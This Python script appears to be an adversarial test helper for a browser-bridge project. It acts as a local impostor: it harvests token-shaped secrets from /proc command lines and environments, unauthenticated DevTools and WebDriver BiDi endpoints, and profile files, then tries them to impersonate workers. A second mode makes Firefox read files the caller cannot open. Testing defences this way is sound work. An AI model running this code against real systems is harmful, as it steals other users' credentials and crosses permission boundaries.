"""An impostor: another local user looking for a worker's secret, then trying to speak as that worker.

Run by tests/test_browser_adversary.py as user nobody (``setpriv``), with the system's python3 and
the standard library only. It searches everything such a user can read:

- every process's command line and environment (``/proc/<pid>/cmdline``, ``/proc/<pid>/environ``);
- every TCP port listening on loopback (``/proc/net/tcp``, ``tcp6``), asking each for Chromium's
  unauthenticated DevTools lists ``/json/version`` and ``/json/list`` (whose page URLs used to
  carry the token), and for Firefox's WebDriver BiDi endpoint (a WebSocket at ``/session``:
  ``session.status``, then, where a session is already held, ``session.new``; it never takes a
  free one, so as not to disturb a Firefox that is starting);
- the profile folders given on the command line (files it can read in them);

and collects what looks like a secret: ``token=`` values, 64-hex-digit strings (the per-worker
secrets' shape) and 32-character URL-safe strings (the old pool-wide token's shape). Then it says
hello on the bridge as each worker id given, with each candidate, and reports what happened as one
JSON object on stdout.

Usage: impostor.py BRIDGE_PORT WORKER_ID[,WORKER_ID...] [PATH...]

``impostor.py bidi-read PORT PATH`` instead shows what a free WebDriver BiDi session is worth: it
opens one on Firefox's ``PORT``, tries to read ``PATH`` itself, then has Firefox load
``file://PATH`` and returns the page's text (Firefox reads files as the user it runs as).
"""

from __future__ import annotations

import base64
import json
import os
import re
import socket
import struct
import sys
import urllib.parse
from typing import Any

CANDIDATE_PATTERNS = (
    re.compile(r"token=([A-Za-z0-9_%.~-]+)"),
    re.compile(r"(?<![0-9a-f])([0-9a-f]{64})(?![0-9a-f])"),
    re.compile(r"(?<![A-Za-z0-9_-])([A-Za-z0-9_-]{32})(?![A-Za-z0-9_-])"),
)
MAX_ATTEMPTS = 400


def candidates_in(text: str) -> set[str]:
    found: set[str] = set()
    for pattern in CANDIDATE_PATTERNS:
        found.update(urllib.parse.unquote(m) for m in pattern.findall(text))
    return found


def read_proc(report: dict[str, Any], found: dict[str, str]) -> None:
    cmdlines = environs = 0
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        for name in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    text = f.read().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if name == "cmdline":
                cmdlines += 1
                if "chromium" in text or "chrome" in text:
                    report["chromium_cmdlines"].append(text[:2000])
                if "firefox" in text:
                    report["firefox_cmdlines"].append(text[:2000])
            else:
                environs += 1
            for candidate in candidates_in(text):
                found.setdefault(candidate, f"/proc/{pid}/{name}")
    report["cmdlines_read"], report["environs_read"] = cmdlines, environs


def listening_loopback_ports() -> list[int]:
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                lines = f.read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            local, state = fields[1], fields[3]
            address, port = local.split(":")
            loopback = address in ("0100007F", "00000000", "00000000000000000000000001000000")
            anywhere = address == "00000000000000000000000000000000"
            if state == "0A" and (loopback or anywhere):  # 0A: LISTEN
                ports.add(int(port, 16))
    return sorted(ports)


def http_get(port: int, path: str) -> str | None:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1.0) as s:
            s.sendall(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n\r\n".encode())
            chunks = []
            while len(b"".join(chunks)) < 1 << 20:
                chunk = s.recv(65536)
                if not chunk:
                    break
                chunks.append(chunk)
    except OSError:
        return None
    return b"".join(chunks).decode(errors="replace")


def probe_ports(report: dict[str, Any], found: dict[str, str]) -> None:
    report["listening"] = listening_loopback_ports()
    for port in report["listening"]:
        for path in ("/json/version", "/json/list"):
            body = http_get(port, path)
            if body is None:
                continue
            if "webSocketDebuggerUrl" in body or '"Browser"' in body:
                report["devtools"].setdefault(str(port), []).append(body[-4000:])
            for candidate in candidates_in(body):
                found.setdefault(candidate, f"http://127.0.0.1:{port}{path}")


def probe_bidi(report: dict[str, Any]) -> None:
    for port in report["listening"]:
        try:
            # Generous: a loaded machine may take seconds to answer (a miss would hide an endpoint).
            with ws_connect(port, "/session", timeout=8.0) as s:
                status = ws_command(s, 1, "session.status")
                outcome: dict[str, Any] = {"status": status}
                if not status.get("result", {}).get("ready", True):
                    outcome["new"] = ws_command(s, 2, "session.new", {"capabilities": {}})
        except (OSError, ValueError, ConnectionError):
            continue  # not a WebSocket at /session: not BiDi
        report["bidi"][str(port)] = outcome


def probe_paths(report: dict[str, Any], found: dict[str, str], paths: list[str]) -> None:
    for root in paths:
        try:
            entries = os.listdir(root)
        except OSError as exc:
            report["paths"][root] = f"denied: {exc.strerror}"
            continue
        report["paths"][root] = f"listed {len(entries)} entries"
        for folder, _, files in os.walk(root):
            for name in files:
                path = os.path.join(folder, name)
                try:
                    with open(path, "rb") as f:
                        text = f.read(1 << 20).decode(errors="replace")
                except OSError:
                    continue
                report["files_read"] += 1
                for candidate in candidates_in(text):
                    found.setdefault(candidate, path)


def recv_exact(s: socket.socket, n: int) -> bytes:
    data = b""
    while len(data) < n:
        chunk = s.recv(n - len(data))
        if not chunk:
            raise ConnectionError("closed")
        data += chunk
    return data


class HandshakeRefused(ConnectionError):
    pass


def ws_connect(port: int, path: str, origin: str | None = None, timeout: float = 3.0) -> socket.socket:
    """A WebSocket connection to 127.0.0.1:``port``/``path`` (raises HandshakeRefused if not one)."""
    key = base64.b64encode(os.urandom(16)).decode()
    request = (
        f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
        f"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
        f"Sec-WebSocket-Version: 13\r\n"
    )
    if origin is not None:
        request += f"Origin: {origin}\r\n"
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    try:
        s.sendall((request + "\r\n").encode())
        head = b""
        while b"\r\n\r\n" not in head:
            head += recv_exact(s, 1)
        if b" 101 " not in head.split(b"\r\n")[0]:
            raise HandshakeRefused("handshake refused: " + head.split(b"\r\n")[0].decode())
    except BaseException:
        s.close()
        raise
    return s


def ws_send_text(s: socket.socket, text: str) -> None:
    payload = text.encode()
    mask = os.urandom(4)
    if len(payload) < 126:
        header = bytes([0x81, 0x80 | len(payload)])
    else:
        header = bytes([0x81, 0x80 | 126]) + struct.pack("!H", len(payload))
    s.sendall(header + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))


def ws_recv_text(s: socket.socket) -> str | int:
    """The next text frame, or the close code once the peer closes."""
    while True:
        b0, b1 = recv_exact(s, 2)
        length = b1 & 0x7F
        if length == 126:
            length = struct.unpack("!H", recv_exact(s, 2))[0]
        elif length == 127:
            length = struct.unpack("!Q", recv_exact(s, 8))[0]
        data = recv_exact(s, length)
        opcode = b0 & 0x0F
        if opcode == 0x8:
            return struct.unpack("!H", data[:2])[0] if len(data) >= 2 else 1005
        if opcode == 0x1:
            return data.decode()


def ws_command(s: socket.socket, command_id: int, method: str, params: dict[str, Any] | None = None) -> Any:
    """Send one WebDriver BiDi command and return its answer (events before it are skipped)."""
    ws_send_text(s, json.dumps({"id": command_id, "method": method, "params": params or {}}))
    while True:
        frame = ws_recv_text(s)
        if isinstance(frame, int):
            return {"closed": frame}
        message = json.loads(frame)
        if message.get("id") == command_id:
            return message


def say_hello(port: int, worker: str, secret: str) -> str:
    """One WebSocket connection to the bridge saying hello as ``worker`` with ``secret``."""
    origin = f"http://127.0.0.1:{port}"  # a non-browser client sends whatever Origin it likes
    key = base64.b64encode(os.urandom(16)).decode()
    request = (
        f"GET /ws?worker={urllib.parse.quote(worker)} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
        f"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
        f"Sec-WebSocket-Version: 13\r\nOrigin: {origin}\r\n\r\n"
    )
    hello = {
        "type": "hello",
        "protocol": 1,
        "token": secret,
        "worker_id": worker,
        "instance": "impostor",
        "browser": {"name": "chromium"},
        "backend": "js",
        "capabilities": {},
    }
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=3.0) as s:
            s.sendall(request.encode())
            head = b""
            while b"\r\n\r\n" not in head:
                head += recv_exact(s, 1)
            if b" 101 " not in head.split(b"\r\n")[0]:
                return "handshake refused: " + head.split(b"\r\n")[0].decode()
            payload = json.dumps(hello).encode()
            mask = os.urandom(4)
            header = bytes([0x81]) + (
                bytes([0x80 | len(payload)])
                if len(payload) < 126
                else bytes([0x80 | 126]) + struct.pack("!H", len(payload))
            )
            s.sendall(header + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))
            while True:
                b0, b1 = recv_exact(s, 2)
                length = b1 & 0x7F
                if length == 126:
                    length = struct.unpack("!H", recv_exact(s, 2))[0]
                elif length == 127:
                    length = struct.unpack("!Q", recv_exact(s, 8))[0]
                data = recv_exact(s, length)
                opcode = b0 & 0x0F
                if opcode == 0x8:
                    code = struct.unpack("!H", data[:2])[0] if len(data) >= 2 else 1005
                    return f"closed {code}"
                if opcode == 0x1:
                    message = json.loads(data)
                    if message.get("type") == "welcome":
                        return "welcome"
    except (OSError, ValueError) as exc:
        return f"error: {exc!r}"


def bidi_read(port: int, path: str) -> dict[str, Any]:
    report: dict[str, Any] = {"uid": os.getuid()}
    try:
        with open(path) as f:
            report["direct"] = f.read()
    except OSError as exc:
        report["direct"] = f"denied: {exc.strerror}"
    with ws_connect(port, "/session", timeout=30.0) as s:  # a new session waits for the first window
        report["new"] = ws_command(s, 1, "session.new", {"capabilities": {}})
        tree = ws_command(s, 2, "browsingContext.getTree", {"maxDepth": 0})
        context = tree["result"]["contexts"][0]["context"]
        params = {"context": context, "url": f"file://{path}", "wait": "complete"}
        report["navigate"] = ws_command(s, 3, "browsingContext.navigate", params)
        target = {"context": context}
        expression = "document.body.innerText"
        answer = ws_command(
            s, 4, "script.evaluate", {"expression": expression, "target": target, "awaitPromise": False}
        )
        report["through_firefox"] = answer.get("result", {}).get("result", {}).get("value")
        ws_command(s, 5, "session.end")
    return report


def main() -> None:
    if sys.argv[1] == "bidi-read":
        print(json.dumps(bidi_read(int(sys.argv[2]), sys.argv[3])))
        return
    port = int(sys.argv[1])
    workers = sys.argv[2].split(",")
    report: dict[str, Any] = {
        "uid": os.getuid(),
        "chromium_cmdlines": [],
        "firefox_cmdlines": [],
        "devtools": {},
        "bidi": {},
        "paths": {},
        "files_read": 0,
        "attempts": [],
    }
    found: dict[str, str] = {}
    read_proc(report, found)
    probe_ports(report, found)
    probe_bidi(report)
    probe_paths(report, found, sys.argv[3:])
    report["candidates"] = found
    for worker in workers:
        for secret, source in list(found.items())[:MAX_ATTEMPTS]:
            outcome = say_hello(port, worker, secret)
            report["attempts"].append({"worker": worker, "source": source, "outcome": outcome})
    print(json.dumps(report))


if __name__ == "__main__":
    main()
